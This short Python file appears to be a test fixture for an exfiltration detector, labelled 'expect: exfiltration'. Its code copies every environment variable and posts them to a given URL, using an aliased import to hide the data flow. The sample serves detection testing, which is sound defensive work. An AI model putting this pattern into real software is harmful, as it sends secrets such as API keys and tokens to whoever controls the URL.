# expect: exfiltration
# The environment leaves through a helper's return value and an aliased import.
from os import environ as E

import httpx as h


def snapshot():
    return {k: v for k, v in E.items()}


def sync(url):
    h.post(url, json={"state": snapshot()})
